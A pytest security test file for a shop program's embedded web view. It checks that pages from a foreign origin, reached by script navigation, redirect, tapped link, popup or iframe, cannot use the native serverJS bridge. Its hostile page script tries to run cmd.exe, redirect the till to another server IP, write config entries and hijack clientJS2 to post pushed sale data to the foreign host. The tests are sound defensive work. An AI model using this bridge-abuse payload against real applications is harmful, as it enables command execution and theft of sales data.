"""Only the back office's own page reaches the native commands. The real
program with the recorder page, and a second web server on another loopback
port playing a foreign site (an advertiser, a payment widget, a page a link
leads to): whatever way the view is led there, nothing the foreign page tries
takes effect, the refusal is logged, and the shop's page is back within
seconds and gets the pushes. The cases share one run and go in file order."""

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from lumo_harness import CHROMIUM, engine, wait_until

START_TIMEOUT = 60
STEP_TIMEOUT = 20
BACK_TIMEOUT = 10

pytestmark = pytest.mark.slow

# What a hostile page tries: start a program, point the till at another
# server, add a section of its own; and it takes over clientJS2 to catch the
# sale data a push would bring.
HOSTILE_SCRIPT = """
function rep(v) { var x = new XMLHttpRequest(); x.open("POST", "/report", true); x.send(JSON.stringify(v)); }
var out = { kind: "%(kind)s", where: location.href, has: typeof serverJS };
if (typeof serverJS === "function") {
  out.open = serverJS(JSON.stringify({ c: "sys", a: "openfile",
    data: { path: "cmd.exe", param: "/c echo x > %(pwned)s", show: 0 } }));
  out.ip = serverJS(JSON.stringify({ c: "sys", a: "writeini", data: { node: "server", key: "ip", value: "10.9.9.9" } }));
  out.section = serverJS(JSON.stringify({ c: "sys", a: "writeini", data: { node: "%(section)s", key: "k", value: "v" } }));
  out.pc = serverJS(JSON.stringify({ c: "sys", a: "pcname" }));
}
window.clientJS2 = function (m) { rep({ kind: "push", msg: m }); };
rep(out);
"""


class ForeignSite:
    """A web server of another origin: serves the hostile page and records
    what its pages report."""

    def __init__(self, pwned_path):
        self.reports = []
        self.requests = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                site.requests.append(self.path)
                name = self.path.split("?")[0].strip("/").split(".")[0] or "page"
                script = HOSTILE_SCRIPT % {"kind": name, "pwned": pwned_path.replace("\\", "\\\\"),
                                           "section": "evil_" + name}
                body = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>foreign</title></head>"
                        "<body><p>foreign %s</p><script>%s</script></body></html>" % (name, script)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length)
                try:
                    site.reports.append(json.loads(body.decode("utf-8")))
                except ValueError:
                    site.reports.append({"unreadable": body.decode("latin-1")})
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.origin = "http://127.0.0.1:%d" % self.port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, name):
        return "%s/%s.html" % (self.origin, name)

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class Shop:
    pass


def start_shop(make_run, name, trust=None):
    run = make_run(name, page="recorder")
    s = Shop()
    s.run, s.folder = run, run.folder
    s.pwned = s.folder.path / "pwned.txt"
    s.foreign = ForeignSite(s.folder.win_dir + "pwned.txt")
    s.office = run.start_office()
    local = {"index": 1}
    if trust:
        local["trust"] = trust(s.foreign)
    s.folder.write_config({"server": {"ip": "127.0.0.1", "webport": s.office.web_port},
                           "local": local})
    s.program = run.start_program()
    s.loaded = s.office.wait_report(lambda r: True, START_TIMEOUT, kind="loaded")
    assert s.loaded, "the page never loaded"
    assert s.office.wait("connections", 1, STEP_TIMEOUT)
    s.marks = 0
    return s


@pytest.fixture(scope="module")
def shop(make_run):
    s = start_shop(make_run, "origin")
    yield s
    s.foreign.stop()


def loads(s):
    return len(s.office.reports("loaded"))


def push_command(s, command, **data):
    s.office.push(json.dumps({"c": "e2e", "a": command, "data": data}))


def marker_reaches_page(s, timeout=BACK_TIMEOUT):
    """Pushes markers until one reaches the shop's page (a push that arrives
    while the page is away is not run), True when one did within timeout."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        s.marks += 1
        mark = {"c": "mark", "a": "n", "data": {"n": s.marks}}
        s.office.push(json.dumps(mark))
        if s.office.wait_report(lambda r: r["msg"] == mark, 2, kind="message"):
            return True
    return False


def nothing_took_effect(s):
    assert not s.pwned.exists(), "a foreign page started a program"
    config = s.folder.config()
    assert config["server"]["ip"] == "127.0.0.1", "a foreign page rewrote the server address"
    assert not [name for name in config if name.startswith("evil")], "a foreign page wrote config.ini"
    for report in s.foreign.reports:
        if report.get("has") == "function":
            assert (report.get("open"), report.get("ip"), report.get("section")) == (False, False, False), report
            assert "pc" in report and report["pc"] is False, report
        assert report.get("kind") != "push", "a push reached a foreign document: %r" % report


def refusal_logged(s, after, kinds=("OnNavigation refused", "OnLoaded foreign", "OnServer refused")):
    return s.folder.wait_log(lambda line: line.category == "WKE" and line.message.startswith(kinds),
                             STEP_TIMEOUT, after)


def test_the_shops_own_page_keeps_every_command(shop):
    probe = shop.loaded["serverjs"]
    assert probe["available"]
    assert probe["replies"]["appname"] == "lumo"
    assert probe["replies"]["pcname"]
    assert probe["types"]["width"] == "number"
    assert not [l for l in shop.folder.lines("WKE") if "refused" in l.message]


def page_stayed(s, loads_before):
    """The refused navigation left the page as it was: not loaded again, and
    no local screen was shown in between."""
    assert loads(s) == loads_before, "the page was loaded again"
    assert not [l for l in s.folder.lines("载入页面")], "a refusal was taken for a failed load"


def test_script_navigation_elsewhere_is_stopped(shop):
    loads_before = loads(shop)
    after = len(shop.folder.log())
    push_command(shop, "go", url=shop.foreign.url("script"))
    line = refusal_logged(shop, after)
    assert line, "no refusal logged"
    assert shop.foreign.origin in line.message
    assert marker_reaches_page(shop), "the shop's page did not come back"
    nothing_took_effect(shop)
    page_stayed(shop, loads_before)


def test_a_redirect_from_the_back_office_to_elsewhere_is_stopped(shop):
    loads_before = loads(shop)
    after = len(shop.folder.log())
    target = "/goto?to=" + shop.foreign.url("redirected").replace(":", "%3A").replace("/", "%2F")
    push_command(shop, "go", url=target)
    assert refusal_logged(shop, after), "no refusal logged"
    assert marker_reaches_page(shop), "the shop's page did not come back"
    nothing_took_effect(shop)
    page_stayed(shop, loads_before)


def test_a_tapped_link_to_elsewhere_is_stopped(shop):
    push_command(shop, "link", url=shop.foreign.url("tapped"))
    assert shop.office.wait_report(lambda r: True, STEP_TIMEOUT, kind="link-added")
    loads_before = loads(shop)
    after = len(shop.folder.log())
    # A tap in the middle of the view, through the window's input queue.
    assert shop.run.ctl.run("tap", "200", "150").get("posted") == "1"
    line = refusal_logged(shop, after)
    assert line, "no refusal logged for the tapped link"
    assert marker_reaches_page(shop), "the shop's page did not come back"
    nothing_took_effect(shop)
    page_stayed(shop, loads_before)


def test_no_new_window_is_ever_opened(shop):
    after = len(shop.folder.log())
    push_command(shop, "open", url=shop.foreign.url("popup"))
    report = shop.office.wait_report(lambda r: True, STEP_TIMEOUT, kind="opened")
    assert report and report["got"] != "window"
    assert shop.folder.wait_log(lambda l: l.message.startswith("OnCreateView refused"), STEP_TIMEOUT,
                                after)
    assert marker_reaches_page(shop)
    nothing_took_effect(shop)


def test_a_foreign_iframe_gets_nothing_and_the_page_keeps_its_replies(shop):
    if engine() != CHROMIUM:
        # Its frames come only from a document's markup (its own tests check a
        # cross-origin one); this page adds the frame by script.
        pytest.skip("the headless engine gives frames added by script no document")
    after = len(shop.folder.log())
    push_command(shop, "frame", url=shop.foreign.url("framed"))
    assert shop.office.wait_report(lambda r: True, STEP_TIMEOUT, kind="frame-added")
    line = shop.folder.wait_log(lambda l: l.message.startswith("OnServer refused origin:" +
                                                                shop.foreign.origin), STEP_TIMEOUT, after)
    assert line, "the iframe's call was not refused and logged"
    assert "c:sys a:" in line.message and "10.9.9.9" not in line.message
    assert wait_until(lambda: [r for r in shop.foreign.reports if r.get("kind") == "framed"], STEP_TIMEOUT)
    nothing_took_effect(shop)
    # The page's own calls still get their own replies.
    for n in range(5):
        push_command(shop, "serverjs", id="own%d" % n, arg=json.dumps({"c": "sys", "a": "appname"}))
        reply = shop.office.wait_report(lambda r: r.get("id") == "own%d" % n, STEP_TIMEOUT, kind="reply")
        assert reply and reply["value"] == "lumo", reply


def test_a_push_with_line_breaks_is_one_log_line_and_reaches_the_page_unchanged(shop):
    after = len(shop.folder.log())
    text = '{"c":"note",\r\n"a":"x",\r\n"data":{"t":"a\\r\\nb"}}'
    shop.office.push(text)
    expected = json.loads(text)
    assert shop.office.wait_report(lambda r: r["msg"] == expected, STEP_TIMEOUT, kind="message")
    lines = [l for l in shop.folder.log()[after:] if l.category == "客户通信"]
    handled = [l for l in lines if l.message.startswith("OnHandle data:")]
    assert len(handled) == 1, handled
    assert "\r" not in handled[0].message and "\n" not in handled[0].message
    assert handled[0].message == "OnHandle data:" + text.replace("\r", "\\r").replace("\n", "\\n")
    assert not [l for l in shop.folder.log()[after:] if l.category == "错误提示"]


def test_an_origin_the_shop_trusts_is_let_in(make_run, shop):
    shop.run.close()
    trusted = start_shop(make_run, "origin_trust", trust=lambda site: site.origin)
    try:
        push_command(trusted, "go", url=trusted.foreign.url("partner"))
        report = wait_until(lambda: [r for r in trusted.foreign.reports if r.get("kind") == "partner"],
                            STEP_TIMEOUT)
        assert report, "the trusted page never loaded"
        assert report[0]["section"] is True and report[0]["pc"], report[0]
        assert trusted.folder.config().get("evil_partner") == {"k": "v"}
        assert trusted.foreign.reports and not [l for l in trusted.folder.lines("WKE") if "refused" in l.message]
    finally:
        trusted.foreign.stop()
